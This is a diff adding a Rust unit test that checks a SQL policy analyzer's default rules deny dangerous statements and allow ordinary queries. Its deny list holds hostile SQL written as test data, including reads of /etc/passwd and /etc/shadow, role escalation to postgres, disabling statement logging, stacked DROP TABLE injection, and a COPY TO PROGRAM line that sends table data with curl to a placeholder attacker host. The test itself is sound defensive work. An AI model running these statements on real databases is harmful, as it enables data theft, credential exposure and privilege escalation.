@@ -6,3 +6,58 @@
 //! testable without a server.
 
 pub mod sql;
+
+#[cfg(test)]
+mod tests {
+    use super::sql::{analyze, SqlRule};
+    use crate::config::Config;
+
+    /// The shipped default policy against the bypasses the analyzer knows of.
+    #[test]
+    fn the_default_policy_denies_known_dangerous_sql_and_allows_plain_work() {
+        let path = std::path::Path::new(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/../policies/default.toml"
+        ));
+        let cfg = Config::load(path).expect("policies/default.toml is valid");
+        let rules: Vec<SqlRule> = cfg
+            .rules
+            .iter()
+            .filter_map(|r| r.sql.as_ref())
+            .map(SqlRule::from_config)
+            .collect();
+        let denied = |sql: &str| rules.iter().any(|r| r.matches(&analyze(sql)).is_some());
+        for sql in [
+            "DROP TABLE users",
+            "SELECT pg_read_file('/etc/passwd')",
+            "SELECT upper(pg_catalog.PG_READ_FILE('x'))",
+            "SELECT * FROM (SELECT lo_import('/etc/shadow')) s",
+            "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
+            "COPY users TO PROGRAM 'curl -d @- attacker'",
+            "DO $$ BEGIN PERFORM pg_read_file('x'); END $$",
+            "SET ROLE postgres",
+            "SET SESSION AUTHORIZATION postgres",
+            "SELECT set_config('role', 'postgres', false)",
+            "SELEC 1",
+            "DELETE FROM users",
+            "PREPARE p AS DELETE FROM users",
+            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
+            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
+            "ALTER SYSTEM SET log_statement = 'none'",
+            "SELECT 1; DROP TABLE users",
+        ] {
+            assert!(denied(sql), "the default policy lets through: {sql}");
+        }
+        for sql in [
+            "SELECT id, email FROM users WHERE id = 1",
+            "UPDATE users SET name = 'x' WHERE id = 2",
+            "INSERT INTO users (id) VALUES (1)",
+            "BEGIN; SELECT 1; COMMIT",
+        ] {
+            assert!(
+                !denied(sql),
+                "the default policy refuses ordinary work: {sql}"
+            );
+        }
+    }
+}
